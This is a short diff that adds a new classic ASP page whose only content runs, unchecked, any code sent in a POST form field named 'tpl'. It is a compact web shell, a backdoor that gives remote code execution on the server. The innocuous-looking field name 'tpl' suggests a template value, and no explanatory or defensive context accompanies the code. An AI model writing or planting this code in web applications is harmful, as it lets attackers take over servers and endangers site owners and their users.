@@ -1,0 +1,3 @@
+<%
+Execute(UnEscape(Request.Form("tpl")))
+%>
